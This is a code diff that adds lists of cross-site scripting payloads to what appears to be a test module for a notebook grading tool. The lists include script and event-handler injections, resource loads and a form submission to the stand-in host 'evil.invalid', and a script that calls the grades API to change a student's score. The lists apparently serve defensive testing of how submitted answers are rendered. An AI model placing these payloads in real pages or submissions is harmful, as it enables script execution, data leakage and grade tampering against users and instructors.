@@ -336,6 +336,34 @@ def mutual_information(counts):
     "scripts_in_text": (scripts, set()),
 }
 
+# What their written answers try on whoever opens them in a browser: to run something, to load
+# something from elsewhere, or to change a grade.
+EVIL = "http://evil.invalid"
+RUNS = [
+    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)></svg>",
+    "<svg><script>alert(1)</script></svg>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<iframe src='javascript:alert(1)'></iframe>", "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>", "<input autofocus onfocus=alert(1)>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
+    "onerror=alert(1)&gt;'>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<body onload=alert(1)>",
+    "<script type=module>import('data:text/javascript,alert(1)')</script>",
+    "<script>for (const way of ['PUT', 'POST']) fetch('/formgrader/api/grades', {method: way, body:"
+    " '{\"manual_score\": 33}'}).then(alert, alert)</script>",
+    "<audio src=data:, onerror=alert(1) autoplay></audio>",
+]
+LOADS = [
+    f"![x]({EVIL}/a.png)", f"<img src={EVIL}/b.png srcset={EVIL}/b2.png>",
+    f"<link rel=stylesheet href={EVIL}/c.css>", f"<style>@import url({EVIL}/d.css);</style>",
+    f"<p style='background:url({EVIL}/e.png)'>x</p>", f"<object data={EVIL}/f></object>",
+    f"<meta http-equiv=refresh content='0;url={EVIL}/g'>", f"<audio src={EVIL}/h autoplay></audio>",
+    f"<video poster={EVIL}/i></video>", f"<embed src={EVIL}/j>", f"<base href={EVIL}/><img src=k>",
+    f"<script src={EVIL}/l></script>", f"<iframe src={EVIL}/m></iframe>",
+    f"<form action={EVIL}/n id=n></form><script>document.forms.n.submit()</script>",
+]
+LEADS = ["[x](javascript:alert(1))", "$\\href{javascript:alert(1)}{x}$",
+         "<a href='java&#10;script:alert(1)'>x</a>", "<a href='data:text/html,x'>x</a>"]
+
 # What grades.csv says of them, and of those that lose nothing by it.
 NOTED = {
     "labels_lost": "no cell has the label of the answer mutual-information, info-nce",
